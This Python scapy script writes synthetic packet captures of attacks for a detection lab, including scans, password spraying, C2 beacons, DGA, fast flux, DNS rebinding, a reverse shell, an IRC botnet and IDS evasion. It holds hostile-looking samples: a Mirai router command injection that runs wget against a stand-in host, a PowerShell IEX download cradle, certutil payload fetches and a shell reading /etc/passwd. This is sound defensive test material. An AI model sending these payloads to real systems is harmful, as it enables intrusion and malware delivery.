#!/usr/bin/env python3
"""Captures for the lab of attacks that take hours, or that no tool at hand makes: made.py NAME FILE

The packets are whole: handshakes, acknowledgements, checksums, and the answers of whoever is asked. The addresses are those of record.sh.
"""
import base64
import random
import sys

from scapy.all import DNS, DNSQR, DNSRR, IP, TCP, UDP, Ether, Raw, fragment, wrpcap

CLIENT, FILES, WEB, DNS_SERVER, INTRUDER = "10.0.0.30", "10.0.0.20", "10.0.0.10", "10.0.0.53", "10.0.0.66"
SERVER, SCAN, BRUTE = "192.0.2.80", "198.51.100.7", "198.51.100.22"
rnd = random.Random(11)
packets = []
now = 1_800_000_000.0


def mac(address):
    last = {CLIENT: "01:30", FILES: "01:20", WEB: "01:10", DNS_SERVER: "01:53", INTRUDER: "01:66"}.get(address, "01:01")
    return f"02:00:00:00:{last}"


def put(source, target, layers, wait=0.0, after=0.0):
    """Appends a packet, the time after the one before it, and lets that much more time pass."""
    global now
    now += wait
    p = Ether(src=mac(source), dst=mac(target)) / IP(src=source, dst=target, id=rnd.randrange(65536)) / layers
    p.time = now
    packets.append(p)
    now += after


class Talk:
    """A TCP connection: it is opened, says is called for each side, and it is closed."""

    def __init__(self, client, server, port, answered=True, sport=None):
        self.ends = (client, server)
        self.ports = (sport or rnd.randrange(32768, 60000), port)
        self.seq = [rnd.randrange(1 << 31), rnd.randrange(1 << 31)]
        self.put(0, "S")
        self.seq[0] += 1
        if answered:
            self.put(1, "SA", wait=0.02)
            self.seq[1] += 1
            self.put(0, "A", wait=0.001)

    def put(self, side, flags, data=b"", wait=0.0, **more):
        put(self.ends[side], self.ends[1 - side], TCP(sport=self.ports[side], dport=self.ports[1 - side], seq=self.seq[side], ack=self.seq[1 - side] if "A" in flags else 0, flags=flags, **more) / (Raw(data) if data else b""), wait)

    def say(self, side, data, wait=0.01):
        for at in range(0, len(data), 1400):
            self.put(side, "PA", data[at:at + 1400], wait if at == 0 else 0.0005)
            self.seq[side] += len(data[at:at + 1400])
        self.put(1 - side, "A", wait=0.01)

    def close(self, side=0):
        self.put(side, "FA", wait=0.001)
        self.seq[side] += 1
        self.put(1 - side, "FA", wait=0.01)
        self.seq[1 - side] += 1
        self.put(side, "A", wait=0.001)


def http(path, host, agent, server=SERVER, client=CLIENT, method="GET", body=b"", more="", status="200 OK", answer=b"ok"):
    t = Talk(client, server, 80)
    t.say(0, f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n{more}".encode() + (b"Content-Length: %d\r\n\r\n" % len(body) if body else b"\r\n") + body)
    t.say(1, f"HTTP/1.1 {status}\r\nContent-Type: text/plain\r\nContent-Length: {len(answer)}\r\n\r\n".encode() + answer, 0.03)
    t.close()


def look_up(name, kind="A", answers=(), ttl=300, nxdomain=False):
    """A question of the client to the resolver at home, and its answer."""
    number, port = rnd.randrange(65536), rnd.randrange(32768, 60000)
    put(CLIENT, DNS_SERVER, UDP(sport=port, dport=53) / DNS(id=number, rd=1, qd=DNSQR(qname=name, qtype=kind)))
    records = None
    for a in answers:
        record = DNSRR(rrname=name, type=kind, ttl=ttl, rdata=a)
        records = records / record if records else record
    put(DNS_SERVER, CLIENT, UDP(sport=53, dport=port) / DNS(id=number, qr=1, rd=1, ra=1, rcode=3 if nxdomain else 0, qd=DNSQR(qname=name, qtype=kind), an=records), wait=0.02)


def client_hello():
    """A client hello without a server name, as many implants send it."""
    body = b"\x03\x03" + rnd.randbytes(32) + b"\x20" + rnd.randbytes(32) + b"\x00\x08\xc0\x2f\xc0\x30\x00\x9c\x00\x9d" + b"\x01\x00" + b"\x00\x0e\x00\x0a\x00\x04\x00\x02\x00\x1d\x00\x0b\x00\x02\x01\x00"
    return b"\x16\x03\x01" + (len(body) + 4).to_bytes(2, "big") + b"\x01" + len(body).to_bytes(3, "big") + body


def der(tag, *parts):
    body = b"".join(parts)
    size = bytes([len(body)]) if len(body) < 128 else (b"\x81" + bytes([len(body)]) if len(body) < 256 else b"\x82" + len(body).to_bytes(2, "big"))
    return bytes([tag]) + size + body


# --- scans and guesses ------------------------------------------------------------------------


def sneaky_scan():
    """nmap -T1: a port of a service every 15 seconds."""
    global now
    for port in (443, 22, 80, 25, 3306, 445, 139, 21, 110, 143, 993, 995, 53, 111, 135, 23, 3389, 5900, 8080, 587, 199, 1723, 1025, 113):
        t = Talk(SCAN, FILES, port, answered=False)
        if port in (22, 445):
            t.put(1, "SA", wait=0.01)
            t.seq[1] += 1
            t.put(0, "R", wait=0.001)
        else:
            t.put(1, "RA", wait=0.001)
        now += 15


def mirai_telnet():
    """A bot at home that looks for Telnet on addresses at random, its sequence number the address."""
    for _ in range(90):
        target = f"{rnd.randrange(11, 100)}.{rnd.randrange(1, 255)}.{rnd.randrange(1, 255)}.{rnd.randrange(1, 255)}"
        put(CLIENT, target, TCP(sport=4242, dport=23 if rnd.random() < 0.9 else 2323, flags="S", window=5840), wait=0.3)


def ssh_slow():
    """A password every 20 seconds, each over a connection of its own."""
    global now
    for _ in range(90):
        t = Talk(BRUTE, FILES, 22)
        t.say(1, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n", 0.02)
        t.say(0, b"SSH-2.0-libssh_0.9.6\r\n")
        for size in (1000, 48, 16, 44, 68, 148):
            t.say(0, rnd.randbytes(size))
            t.say(1, rnd.randbytes(size + 32))
        t.close(1)
        now += 19


def kerberos_tcp():
    """One password for 40 users, to the KDC over TCP: kerbrute passwordspray."""
    for number in range(40):
        user = f"user{number}".encode()
        realm = der(0x1B, b"CORP.EXAMPLE")
        name = der(0x30, der(0xA0, der(2, b"\1")), der(0xA1, der(0x30, der(0x1B, user))))
        krbtgt = der(0x30, der(0xA0, der(2, b"\2")), der(0xA1, der(0x30, der(0x1B, b"krbtgt"), der(0x1B, b"CORP.EXAMPLE"))))
        body = der(0x30, der(0xA0, der(3, b"\0\x50\0\0\x10")), der(0xA1, name), der(0xA2, realm), der(0xA3, krbtgt), der(0xA5, der(0x18, b"20370913024805Z")), der(0xA7, der(2, rnd.randbytes(4))), der(0xA8, der(0x30, der(2, b"\x12"))))
        proof = der(0x30, der(0xA1, der(2, b"\2")), der(0xA2, der(4, der(0x30, der(0xA0, der(2, b"\x12")), der(0xA2, der(4, rnd.randbytes(56)))))))
        asked = der(0x6A, der(0x30, der(0xA1, der(2, b"\5")), der(0xA2, der(2, b"\x0a")), der(0xA3, der(0x30, proof)), der(0xA4, body)))
        refused = der(0x7E, der(0x30, der(0xA0, der(2, b"\5")), der(0xA1, der(2, b"\x1e")), der(0xA4, der(0x18, b"20270115080000Z")), der(0xA5, der(2, b"\7")), der(0xA6, der(2, b"\x18")), der(0xA9, realm), der(0xAA, krbtgt)))
        t = Talk(CLIENT, FILES, 88)
        t.say(0, len(asked).to_bytes(4, "big") + asked)
        t.say(1, len(refused).to_bytes(4, "big") + refused)
        t.close()


def sockstress():
    """150 connections whose window is closed at once, and that answer each probe of it."""
    global now
    talks = []
    for _ in range(150):
        t = Talk(SCAN, WEB, 80)
        t.put(0, "A", wait=0.01, window=0)
        talks.append(t)
    for _ in range(8):
        for t in talks:
            t.put(1, "A", wait=0.005)
            t.put(0, "A", wait=0.001, window=0)
        now += 5


# --- names ------------------------------------------------------------------------------------


def dns_beacon():
    """A DNS beacon of Cobalt Strike for an hour: a short name a minute, and a task of 40 names by TXT every ten minutes."""
    global now
    for minute in range(60):
        look_up(f"{rnd.randrange(1 << 32):08x}.ns1.example.net", answers=["0.0.0.0"], ttl=1)
        if minute % 10 == 9:
            for number in range(40):
                look_up(f"api.{number:x}{rnd.randrange(1 << 28):07x}.ns1.example.net", "TXT", [base64.b64encode(rnd.randbytes(120))], ttl=1)
        now += 60 * rnd.uniform(0.9, 1.1)


def dga_slow():
    """A bot that tries 250 names of its algorithm, one in six seconds; the last is registered."""
    global now
    for number in range(250):
        name = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rnd.randrange(8, 14))) + rnd.choice((".com", ".net", ".org", ".info", ".biz"))
        look_up(name, nxdomain=number < 249, answers=[SERVER] if number == 249 else [])
        now += 6


def fast_flux():
    """A name that has five other addresses every three minutes, all over the world."""
    global now
    for _ in range(20):
        look_up("update.example.net", answers=[f"{rnd.randrange(20, 120)}.{rnd.randrange(255)}.{rnd.randrange(255)}.{rnd.randrange(1, 255)}" for _ in range(5)], ttl=60)
        now += 180


def rebinding():
    """A page whose name is outside at first, and a host at home a moment later."""
    global now
    look_up("a7f3.rebind.example.net", answers=["203.0.113.9"], ttl=1)
    http("/", "a7f3.rebind.example.net", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", server="203.0.113.9")
    for _ in range(4):
        now += 3
        look_up("a7f3.rebind.example.net", answers=[WEB], ttl=1)
        http("/admin", "a7f3.rebind.example.net", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", server=WEB)


# --- command and control, uploads -------------------------------------------------------------


def beacon_http():
    """A request every minute for two hours."""
    global now
    for _ in range(120):
        http("/updates/check.php", "cdn.example.net", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", answer=b"")
        now += 60


def beacon_tls():
    """A handshake every five minutes, 20 % more or less, for eight hours."""
    global now
    for _ in range(96):
        t = Talk(CLIENT, SERVER, 443)
        t.say(0, client_hello())
        t.say(1, b"\x16\x03\x03\x00\x40" + rnd.randbytes(64) + b"\x14\x03\x03\x00\x01\x01")
        t.say(0, b"\x17\x03\x03\x01\x00" + rnd.randbytes(256))
        t.say(1, b"\x17\x03\x03\x00\x80" + rnd.randbytes(128))
        t.close()
        now += 300 * rnd.uniform(0.8, 1.2)


def beacon_udp():
    """48 bytes of UDP every ten seconds for an hour."""
    for _ in range(360):
        put(CLIENT, SERVER, UDP(sport=50123, dport=8053) / Raw(rnd.randbytes(48)), wait=10)
        put(SERVER, CLIENT, UDP(sport=8053, dport=50123) / Raw(rnd.randbytes(16)), wait=0.03)


def beacon_dead():
    """An implant whose server is gone calls every minute for two hours, and is refused."""
    global now
    for _ in range(120):
        t = Talk(CLIENT, SERVER, 8443, answered=False)
        t.put(1, "RA", wait=0.02)
        now += 60


def shell_on_443():
    """A shell in plain text over the port of HTTPS."""
    t = Talk(CLIENT, SERVER, 443)
    t.say(0, b"bash-5.2$ ", 0.1)
    for line, answer in ((b"id\n", b"uid=0(root) gid=0(root) groups=0(root)\n"), (b"uname -a\n", b"Linux client 6.1.0 x86_64\n"), (b"cat /etc/passwd\n", b"root:x:0:0:root:/root:/bin/bash\n" * 30)):
        t.say(1, line, 2)
        t.say(0, answer + b"bash-5.2$ ", 0.05)
    t.close(1)


def irc_bot():
    """A bot that is told what to do in a channel of IRC, on a port of another service."""
    t = Talk(CLIENT, SERVER, 8080)
    t.say(0, b"NICK [DEU|W10|4711]\r\nUSER bot 0 * :bot\r\n")
    t.say(1, b":irc.example.net 001 [DEU|W10|4711] :Welcome\r\n")
    t.say(0, b"JOIN #owned secret\r\n")
    for number in range(10):
        t.say(1, b":boss!b@h PRIVMSG #owned :.udpflood 203.0.113.7 80 60\r\n", 30)
        t.say(0, b"PRIVMSG #owned :done\r\n", 5)
        t.say(1, b"PING :irc.example.net\r\n", 30)
        t.say(0, b"PONG :irc.example.net\r\n")


def slow_upload():
    """24 MB in twelve minutes, 2 MB a minute, over one connection."""
    global now
    t = Talk(CLIENT, SERVER, 443)
    t.say(0, client_hello())
    t.say(1, b"\x16\x03\x03\x00\x40" + rnd.randbytes(64))
    for _ in range(180):
        t.say(0, b"\x17\x03\x03\x40\x00" + bytes(133000))
        now += 4 - 0.07
    t.close()


def long_ssh():
    """A shell that is kept open from home for ten hours, with a few bytes every half minute: ssh -R."""
    global now
    t = Talk(CLIENT, SERVER, 22)
    t.say(0, b"SSH-2.0-OpenSSH_9.2p1\r\n")
    t.say(1, b"SSH-2.0-OpenSSH_9.2p1\r\n")
    for _ in range(1200):
        t.say(0, rnd.randbytes(36))
        t.say(1, rnd.randbytes(28))
        now += 29.9


def powershell_agent():
    http("/a.ps1", "192.0.2.80", "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.19041.1682", answer=b"IEX (New-Object Net.WebClient)" * 20)


def certutil_agent():
    http("/payload.exe", "192.0.2.80", "Microsoft-CryptoAPI/10.0", answer=b"MZ" + bytes(600))
    http("/payload.exe", "192.0.2.80", "CertUtil URL Agent", answer=b"MZ" + bytes(600))


def loader_agent():
    """What a loader of Mirai sends to a router, and the agent of its bots."""
    http("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://192.0.2.80/mips)", "10.0.0.10", "Hello, World", server=WEB, client=SCAN, status="404 Not Found")
    http("/bins/mirai.mips", "192.0.2.80", "Hello, World")


# --- evasion ----------------------------------------------------------------------------------


def teardrop():
    """Fragments that overlap: the second begins within the first, and ends within it."""
    global now
    for number in range(20):
        first = IP(src=SCAN, dst=WEB, id=242 + number, flags="MF", proto=17) / Raw(b"\x13\x88\x00\x35\x00\x30\x00\x00" + bytes(28))
        second = IP(src=SCAN, dst=WEB, id=242 + number, frag=3, proto=17) / Raw(bytes(4))
        for p in (first, second):
            p = Ether(src=mac(SCAN), dst=mac(WEB)) / p
            now += 0.05
            p.time = now
            packets.append(p)


def http_in_fragments():
    """A request whose IP packets are cut to 24 bytes each: fragroute ip_frag 24."""
    global now
    asked = b"GET /cgi-bin/test.cgi?id=1 HTTP/1.0\r\nHost: 10.0.0.10\r\n\r\n"
    for _ in range(6):
        t = Talk(SCAN, WEB, 80)
        whole = IP(src=SCAN, dst=WEB, id=rnd.randrange(65536)) / TCP(sport=t.ports[0], dport=80, seq=t.seq[0], ack=t.seq[1], flags="PA") / Raw(asked)
        for p in fragment(whole, 24):
            p = Ether(src=mac(SCAN), dst=mac(WEB)) / p
            now += 0.001
            p.time = now
            packets.append(p)
        t.seq[0] += len(asked)
        t.say(1, b"HTTP/1.0 404 Not Found\r\n\r\n")
        t.close(1)


def tcp_overlap():
    """Segments that are sent twice with other bytes, so that sensor and server read another request."""
    for _ in range(10):
        t = Talk(SCAN, WEB, 80)
        asked = b"GET /index.html?page=harmless HTTP/1.0\r\n\r\n"
        t.put(0, "PA", asked[:10], wait=0.01)
        t.seq[0] += 4
        t.put(0, "PA", b"/cgi-bin/phf", wait=0.001)
        t.put(0, "PA", asked[4:], wait=0.001)
        t.seq[0] += len(asked) - 4
        t.say(1, b"HTTP/1.0 404 Not Found\r\n\r\n")
        t.close(1)


def rst_injection():
    """Somebody ends a connection in the name of its server: RST with sequence numbers all over the window."""
    t = Talk(CLIENT, SERVER, 22)
    for _ in range(20):
        t.say(0, rnd.randbytes(36))
        t.say(1, rnd.randbytes(64))
    for number in range(60):
        put(SERVER, CLIENT, TCP(sport=22, dport=t.ports[0], seq=t.seq[1] + number * 8192, flags="R"), wait=0.002)


def write(scenarios):
    scenario, file = sys.argv[1:]
    scenarios[scenario]()
    wrpcap(file, packets)


if __name__ == "__main__":
    write(globals())
